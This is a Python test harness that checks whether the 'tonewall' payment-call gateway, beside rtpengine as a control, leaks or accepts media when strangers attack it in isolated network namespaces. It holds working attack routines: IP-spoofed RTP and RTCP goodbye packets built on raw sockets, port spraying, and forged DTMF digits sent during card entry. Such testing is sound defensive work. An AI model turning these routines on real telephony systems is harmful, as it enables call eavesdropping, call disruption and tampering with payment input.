#!/usr/bin/env python3
"""Who can hear, speak or key on a call that is not theirs: strangers who spray the gateway's ports and
strangers who forge the caller's address, against tonewall and, beside it, Debian's rtpengine. Caller,
agent, attacker and gateway each have a network namespace of their own on one bridge. Needs root.
Usage: test.py PATH_OF_TONEWALL [--ci] (short slices, and of rtpengine the control alone)"""

import contextlib
import ctypes
import hashlib
import hmac
import json
import os
import random
import re
import secrets
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

CARD, EXPIRY, CODE = "4242424242424242", "1230", "123"
GATEWAY, CALLER, AGENT, ATTACKER = (f"10.77.0.{n}" for n in (1, 2, 3, 4))
PORTS = range(40000, 40040)
NG_PORT, API_PORT = 2223, 8080
PACKET = 160
FORGED = 0x0BAD0BAD
CLONE_NEWNET = 0x40000000
LIBC = ctypes.CDLL("libc.so.6", use_errno=True)


# --- namespaces -------------------------------------------------------------------------------
class Network:
    """Four hosts and a bridge; nothing of it touches the host's own network."""

    def __init__(self):
        self.tag = f"tw{os.getpid() % 10000}"
        self.names = {GATEWAY: "g", CALLER: "c", AGENT: "a", ATTACKER: "x", "switch": "s"}

    def name(self, host):
        return f"{self.tag}{self.names[host]}"

    def ip(self, host, *command):
        subprocess.run(["ip", "netns", "exec", self.name(host), *command], check=True)

    def __enter__(self):
        for host in self.names:
            made = subprocess.run(["ip", "netns", "add", self.name(host)], capture_output=True, text=True)
            if made.returncode:
                raise SystemExit(f"cannot make a network namespace (needs root): {made.stderr.strip()}")
        self.ip("switch", "ip", "link", "add", "br0", "type", "bridge")
        self.ip("switch", "ip", "link", "set", "br0", "up")
        for host in (GATEWAY, CALLER, AGENT, ATTACKER):
            port = f"p{self.names[host]}"
            self.ip("switch", "ip", "link", "add", port, "type", "veth", "peer", "name", "eth0",
                    "netns", self.name(host))
            self.ip("switch", "ip", "link", "set", port, "master", "br0", "up")
            self.ip(host, "ip", "address", "add", f"{host}/24", "dev", "eth0")
            self.ip(host, "ip", "link", "set", "eth0", "up")
            self.ip(host, "ip", "link", "set", "lo", "up")
        return self

    def __exit__(self, *_):
        for host in self.names:
            subprocess.run(["ip", "netns", "delete", self.name(host)], capture_output=True)

    @contextlib.contextmanager
    def on(self, host):
        """This thread's sockets belong to that host: each stays there once it is made."""
        home = os.open("/proc/thread-self/ns/net", os.O_RDONLY)
        away = os.open(f"/var/run/netns/{self.name(host)}", os.O_RDONLY)
        try:
            if LIBC.setns(away, CLONE_NEWNET):
                raise OSError(ctypes.get_errno(), "setns")
            yield
        finally:
            LIBC.setns(home, CLONE_NEWNET)
            os.close(home)
            os.close(away)

    def udp(self, host, port=0):
        with self.on(host):
            made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            made.bind(("127.0.0.1" if port is None else host, port or 0))
            made.settimeout(0.05)
            return made

    def raw(self, host):
        with self.on(host):
            return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def spoofed(source, target, payload):
    """An IPv4 datagram that says it comes from elsewhere. The kernel fills in length and checksum."""
    udp = struct.pack("!HHHH", source[1], target[1], 8 + len(payload), 0) + payload
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0,
                       socket.inet_aton(source[0]), socket.inet_aton(target[0])) + udp


def rtp(kind, sequence, stamp, ssrc, payload, marker=False):
    return struct.pack("!BBHII", 0x80, kind | marker << 7, sequence & 0xFFFF, stamp & 0xFFFFFFFF, ssrc) + payload


def goodbye(ssrc):
    """A compound of an empty report and a goodbye, as a telephone sends it that hangs up."""
    return struct.pack("!BBHI", 0x80, 201, 1, ssrc) + struct.pack("!BBHI", 0x81, 203, 1, ssrc)


# --- the daemons ------------------------------------------------------------------------------
class Daemon:
    def __init__(self, network, title, command, flags=(), nat=False, judged=False):
        self.network, self.title, self.flags, self.nat, self.judged = network, title, list(flags), nat, judged
        self.log = open(Path(tempfile.mkdtemp(prefix="bleed-")) / "log", "w+")
        self.process = subprocess.Popen(
            ["ip", "netns", "exec", network.name(GATEWAY), *map(str, command)],
            stdout=self.log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
        self.control = network.udp(GATEWAY, None)
        self.control.settimeout(2)
        until = time.monotonic() + 15
        while True:
            try:
                self.ask(command="ping")
                return
            except (OSError, ValueError):
                if time.monotonic() > until or self.process.poll() is not None:
                    self.log.seek(0)
                    raise SystemExit(f"{title} does not answer:\n{self.log.read()[-2000:]}") from None
                time.sleep(0.1)

    def ask(self, **message):
        cookie = secrets.token_hex(8)
        message = {key.replace("_", "-"): value for key, value in message.items()}
        self.control.sendto(f"{cookie} {json.dumps(message)}".encode(), ("127.0.0.1", NG_PORT))
        while True:
            reply = self.control.recv(65536).decode()
            if reply.startswith(cookie):
                reply = json.loads(reply.split(" ", 1)[1])
                break
        if reply["result"] not in ("ok", "pong"):
            raise SystemExit(f"{self.title}: {message['command']}: {reply}")
        return reply

    def stop(self):
        self.process.terminate()
        try:
            self.process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.process.kill()
        self.control.close()


def sdp(address, port):
    return ("v=0\r\no=- 1 1 IN IP4 {0}\r\ns=-\r\nc=IN IP4 {0}\r\nt=0 0\r\nm=audio {1} RTP/AVP 0 101\r\n"
            "a=rtpmap:0 PCMU/8000\r\na=rtpmap:101 telephone-event/8000\r\na=sendrecv\r\n").format(address, port)


def port_of(answer):
    return int(re.search(r"m=audio (\d+)", answer)[1])


# --- the ends ---------------------------------------------------------------------------------
def pair(network, host):
    """Sockets for RTP, on an even port, and for RTCP on the next."""
    while True:
        port = random.randrange(20000, 30000, 2)
        with contextlib.suppress(OSError):
            return network.udp(host, port), network.udp(host, port + 1)


class End(threading.Thread):
    """A telephone: 50 packets a second, each with its number; keeps what comes, RTCP too."""

    def __init__(self, network, host, kind):
        super().__init__(daemon=True)
        self.socket, self.rtcp, self.kind, self.host = *pair(network, host), kind, host
        self.port = self.socket.getsockname()[1]
        self.ssrc, self.first = random.getrandbits(32), random.getrandbits(15)
        self.to, self.sent, self.came, self.keys, self.over = None, 0, [], [], False

    def run(self):
        due, event = time.monotonic(), None
        while not self.over:
            while time.monotonic() < due:
                self.take()
            due += 0.02
            number = self.first + self.sent
            payload, kind, marker, stamp = self.kind * 156 + struct.pack("!I", self.sent), 0, False, number * PACKET
            if event is None and self.keys:
                event = [self.keys.pop(0), number * PACKET, 0]
            if event is not None and event[0] is None:
                event[2] += 1
                event = None if event[2] == 6 else event
            elif event is not None:
                event[2] += 1
                done = event[2] == 5
                payload = struct.pack("!BBH", event[0], 0x8A if done else 0x0A, event[2] * PACKET)
                kind, marker, stamp = 101, event[2] == 1, event[1]
                event = None if done else event
            self.socket.sendto(rtp(kind, number, stamp, self.ssrc, payload, marker), self.to)
            self.sent += 1

    def take(self):
        for at, wait in ((self.rtcp, 0), (self.socket, 0.002)):
            at.settimeout(wait)
            with contextlib.suppress(TimeoutError, BlockingIOError):
                self.came.append(at.recv(2048))

    def press(self, digits):
        for digit in digits:
            self.keys += [int(digit), None]

    def heard(self, kind):
        return [p for p in self.came if p[12:13] == kind and len(p) == 12 + PACKET]


class Call:
    def __init__(self, network, daemon):
        self.daemon, self.id, self.tag = daemon, secrets.token_hex(8), secrets.token_hex(4)
        self.caller, self.agent = End(network, CALLER, b"C"), End(network, AGENT, b"A")
        # Behind a NAT its packets come from another port than the one that its SDP names.
        named = self.caller.port + 2000 if daemon.nat else self.caller.port
        common = {"call_id": self.id, "from_tag": self.tag, "replace": ["origin", "session-connection"],
                  "ICE": "remove", "flags": daemon.flags}
        offered = daemon.ask(command="offer", sdp=sdp(CALLER, named), **common)
        answered = daemon.ask(command="answer", to_tag="b", sdp=sdp(AGENT, self.agent.port), **common)
        # The offer's reply faces the agent, the answer's the caller.
        self.agent.to, self.caller.to = (GATEWAY, port_of(offered["sdp"])), (GATEWAY, port_of(answered["sdp"]))

    def start(self):
        self.caller.start()
        self.agent.start()

    def end(self):
        for end in (self.caller, self.agent):
            end.over = True
            end.join()
        self.daemon.ask(command="delete", call_id=self.id, from_tag=self.tag)


# --- the attackers ----------------------------------------------------------------------------
class Attack(threading.Thread):
    """Sends until it is over, and keeps what comes to it."""

    def __init__(self, network, call, kind):
        super().__init__(daemon=True)
        self.call, self.kind, self.over, self.sent, self.came = call, kind, False, 0, []
        self.socket, self.forge = network.udp(ATTACKER), network.raw(ATTACKER)
        self.rng = random.Random(7)

    def run(self):
        while not self.over:
            getattr(self, self.kind)()
            self.socket.settimeout(0.001)
            with contextlib.suppress(TimeoutError):
                while True:
                    self.came.append(self.socket.recv(2048))

    def audio(self, ssrc):
        self.sent += 1
        return rtp(0, self.sent, self.sent * PACKET, ssrc, b"X" * PACKET)

    def spray(self):
        for port in PORTS[::2]:
            self.socket.sendto(self.audio(FORGED), (GATEWAY, port))
        time.sleep(0.005)

    def spray_rtcp(self):
        for port in PORTS:
            self.socket.sendto(goodbye(FORGED), (GATEWAY, port))
        self.sent += 1
        time.sleep(0.01)

    def as_caller(self, payload, rtcp=0):
        source, target = (CALLER, self.call.caller.port), self.call.caller.to
        self.forge.sendto(spoofed((source[0], source[1] + rtcp), (target[0], target[1] + rtcp), payload),
                          (target[0], 0))

    def spoof(self):
        self.as_caller(self.audio(FORGED))
        time.sleep(0.02)

    def spoof_random(self):
        self.as_caller(self.audio(self.rng.getrandbits(32)))
        time.sleep(0.002)

    def spoof_rtcp(self):
        self.sent += 1
        for rtcp in (0, 1):
            self.as_caller(goodbye(FORGED), rtcp)
        time.sleep(0.01)

    def spoof_keys(self):
        self.sent += 1
        code, step = self.rng.randrange(10), self.sent % 5
        payload = struct.pack("!BBH", code, 0x8A if step == 4 else 0x0A, (step + 1) * PACKET)
        ssrc = FORGED if self.sent % 100 < 50 else self.rng.getrandbits(32)
        self.as_caller(rtp(101, self.sent, self.sent // 5 * 5 * PACKET, ssrc, payload))
        time.sleep(0.01)


ROWS = [  # attack, from before the call speaks, judged
    ("spray", True, True),
    ("spray", False, True),
    ("spray_rtcp", False, True),
    ("spoof", False, True),
    ("spoof_random", False, True),
    ("spoof_rtcp", False, True),
    ("spoof", True, False),
]


def attacked(network, daemon, kind, early, seconds):
    """What one attack on one call leads to: bled, injected, legitimate lost, legitimate sent."""
    call = Call(network, daemon)
    attack = Attack(network, call, kind)
    if early:
        attack.start()
        time.sleep(0.3)
    call.start()
    if not early:
        time.sleep(1)
        attack.start()
    time.sleep(seconds)
    attack.over = True
    attack.join()
    time.sleep(0.2)
    call.end()
    ends = (call.caller, call.agent)
    stranger = lambda p: p[12:13] == b"X" or (len(p) >= 8 and p[1] in (201, 203) and p[4:8] == struct.pack("!I", FORGED))
    injected = sum(1 for end in ends for p in end.came if stranger(p))
    bled = sum(1 for p in attack.came if p[12:13] in (b"A", b"C"))
    # A latch learns from the first packets.
    begin, lost, sent = 10, 0, 0
    for end, other in (ends, ends[::-1]):
        numbers = {struct.unpack("!I", p[-4:])[0] for p in other.heard(end.kind)}
        whole = range(begin, end.sent - 5)
        lost += sum(1 for n in whole if n not in numbers)
        sent += len(whole)
    assert attack.sent > 20 and sent > 50, f"{kind}: the attack or the call did not take place"
    return bled, injected, lost, sent


# --- forged digits ----------------------------------------------------------------------------
def api(network, key, method, path, body=None):
    request = urllib.request.Request(f"http://127.0.0.1:{API_PORT}{path}", method=method,
                                     data=None if body is None else json.dumps(body).encode())
    request.add_header("Authorization", f"Bearer {key}")
    request.add_header("Content-Type", "application/json")
    if method == "POST":
        request.add_header("Idempotency-Key", secrets.token_hex(8))
    try:
        with network.on(GATEWAY), urllib.request.urlopen(request, timeout=40) as answer:
            return json.load(answer)
    except urllib.error.HTTPError as error:
        raise SystemExit(f"{method} {path}: {error.code} {error.read().decode()}") from None


# Whoever is heard beside the caller within this time leaves open which of them is the caller.
SET_UP = 5.5


def forged_digits(network, daemon, key, data, digest_key, early):
    """A payment whose caller keys events while a stranger forges others from the caller's address: how
    many were forged, and how many of the fields at the processor are not what was keyed. From early on,
    no field may be taken at all."""
    call = Call(network, daemon)
    call.start()
    time.sleep(1 if early else SET_UP)
    attack = Attack(network, call, "spoof_keys")
    attack.start()
    time.sleep(0.5)
    known = next(c for c in api(network, key, "GET", "/v1/calls")["calls"] if c["answered"])
    payment = api(network, key, "POST", "/v1/payments",
                  {"call": known["id"], "amount": 1250, "currency": "EUR", "reference": "BLEED-1"})
    path = f"/v1/payments/{payment['id']}"
    for field, digits in (("payment-card-number", CARD), ("expiration-date", EXPIRY), ("security-code", CODE)):
        api(network, key, "POST", f"{path}/capture", {"field": field})
        call.caller.press([] if early else digits)
        until = time.monotonic() + 20
        while True:
            now = api(network, key, "GET", path)["fields"][field]
            if now["status"] == "complete":
                break
            if early and now["status"] == "problem":
                attack.over = True
                attack.join()
                call.end()
                return attack.sent, 0
            assert now["status"] != "problem" and time.monotonic() < until, (field, now)
            time.sleep(0.1)
    outcome = api(network, key, "POST", f"{path}/complete", {})
    assert outcome["state"] == "approved", outcome
    attack.over = True
    attack.join()
    call.end()
    sandbox = json.loads((data / "sandbox.json").read_text())
    context = ssl.create_default_context(cadata=sandbox["ca_pem"])
    with network.on(GATEWAY), urllib.request.urlopen(
            f"https://127.0.0.1:{sandbox['port']}/v1/received", context=context) as answer:
        received = json.load(answer)["received"]
    assert len(received) == 1, f"{len(received)} charges at the sandbox"
    digest = lambda text: hmac.new(bytes.fromhex(digest_key), text.encode(), hashlib.sha256).hexdigest()
    wanted = {"pan_hmac": CARD, "expiry_hmac": EXPIRY, "code_hmac": CODE}
    return attack.sent, sum(1 for name, text in wanted.items() if received[0][name] != digest(text))


def tonewall(network, binary, source):
    work = Path(tempfile.mkdtemp(prefix="bleed-tonewall-"))
    digest_key = secrets.token_hex(32)
    config = work / "tonewall.toml"
    config.write_text(f"""
data_dir = "{work}/data"
[api]
listen = "127.0.0.1:{API_PORT}"
[metrics]
listen = "127.0.0.1:9090"
[ng]
udp = "127.0.0.1:{NG_PORT}"
[media]
caller = "offerer"
address = "{GATEWAY}"
port_min = {PORTS[0]}
port_max = {PORTS[-1]}
port_quarantine = "0s"
source = "{source}"
[processor]
kind = "sandbox"
digest_key = "{digest_key}"
""")
    daemon = Daemon(network, f"tonewall, {source}", [binary, "serve", "--config", config],
                    nat=source != "exact", judged=True)
    made = subprocess.check_output([binary, "keys", "create", "--config", config, "--role", "integration",
                                    "--label", "bleed", "--json"])
    return daemon, json.loads(made)["secret"], work / "data", digest_key


def rtpengine(network, learning, flags):
    program = shutil.which("rtpengine") or "/usr/bin/rtpengine"
    return Daemon(network, f"rtpengine, {learning}{', strict' if flags else ''}",
                  [program, "--config-file=none", "--table=-1", "--foreground", "--log-stderr", "--log-level=1", "--pidfile=/dev/null",
                   f"--interface={GATEWAY}", f"--listen-ng=127.0.0.1:{NG_PORT}", f"--endpoint-learning={learning}",
                   f"--port-min={PORTS[0]}", f"--port-max={PORTS[-1]}"], flags)


def main():
    binary, short = Path(sys.argv[1]).resolve(), "--ci" in sys.argv
    seconds = 2 if short else 8
    missed = []
    print(f"{'daemon':<32} {'attack':<14} {'from':<6} {'bled':>6} {'injected':>9} {'lost of legitimate':>20}")
    with Network() as network:
        def rows(daemon):
            """All attacks on a daemon; how many packets bled or were let in."""
            passed = 0
            for kind, early, judged in ROWS if daemon.judged or not short else ROWS[:1]:
                bled, injected, lost, sent = attacked(network, daemon, kind, early, seconds)
                when = "set-up" if early else "later"
                print(f"{daemon.title:<32} {kind:<14} {when:<6} {bled:>6} {injected:>9} {lost:>10} of {sent:>5}",
                      flush=True)
                passed += bled + injected
                if daemon.judged and judged and (bled or injected or lost > sent / 1000):
                    missed.append(f"{daemon.title}: {kind}, {when}")
            return passed

        leaked = 0
        if shutil.which("rtpengine"):
            for learning, flags in (("delayed", []), ("heuristic", ["strict source"]), ("off", ["strict source"])):
                daemon = rtpengine(network, learning, flags)
                leaked += rows(daemon)
                daemon.stop()
                if short:
                    break
            # The control: what these attacks do where nothing stops them.
            if leaked == 0:
                missed.append("the control: rtpengine with learning neither bled nor let anything in")
        else:
            print("rtpengine is not installed: its rows, and the control, are SKIPPED")
        for source in ("exact", "restricted-latch"):
            daemon, key, data, digest_key = tonewall(network, binary, source)
            rows(daemon)
            for early in (True, False):
                forged, wrong = forged_digits(network, daemon, key, data, digest_key, early)
                told = "no field was taken" if early else f"{wrong} of 3 fields are not what was keyed"
                when = "set-up" if early else "later"
                print(f"{daemon.title:<32} {'spoof_keys':<14} {when:<6} {forged} forged events, {told}", flush=True)
                if wrong:
                    missed.append(f"{daemon.title}: forged digits were taken")
            daemon.stop()
    if missed:
        raise SystemExit("bleed: FAILED: " + "; ".join(missed))
    print("bleed: nothing bled, nothing was let in, no forged digit was taken; rows that forge the caller's "
          "address from before it speaks are not judged")


if __name__ == "__main__":
    main()
